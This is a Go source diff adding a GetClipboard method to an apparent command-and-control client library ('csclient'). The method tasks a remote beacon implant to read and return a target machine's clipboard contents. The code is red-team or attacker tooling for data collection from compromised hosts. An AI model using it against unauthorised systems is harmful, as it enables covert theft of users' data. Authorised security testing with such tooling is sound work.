@@ -0,0 +1,37 @@
+package csclient
+
+import (
+	"context"
+	"fmt"
+	"regexp"
+	"strings"
+)
+
+// clipboardHeaderRe matches the header the beacon prints before the clipboard text
+var clipboardHeaderRe = regexp.MustCompile(`(?m)^Clipboard Data \(\d+ bytes\):\r?\n`)
+
+// GetClipboard reads the text on the target's clipboard. It submits the task
+// and waits for the beacon to return the contents.
+func (c *Client) GetClipboard(ctx context.Context, bid string) (string, error) {
+	var resp AsyncCommandResponse
+	path, err := beaconPath(bid, "/execute/clipboard")
+	if err != nil {
+		return "", fmt.Errorf("failed to get clipboard: %w", err)
+	}
+	if err := c.doRequest(ctx, "POST", path, EmptyDto{}, &resp, true); err != nil {
+		return "", fmt.Errorf("failed to get clipboard: %w", err)
+	}
+	task, err := c.waitForResponse(ctx, &resp, 0)
+	if err != nil {
+		return "", fmt.Errorf("failed to get clipboard: %w", err)
+	}
+	if task.TaskStatus == TaskStatusFailed {
+		return "", fmt.Errorf("failed to get clipboard: task %s failed", task.TaskID)
+	}
+
+	text := TaskOutputText(task)
+	if loc := clipboardHeaderRe.FindStringIndex(text); loc != nil {
+		text = text[loc[1]:]
+	}
+	return strings.TrimRight(text, "\r\n"), nil
+}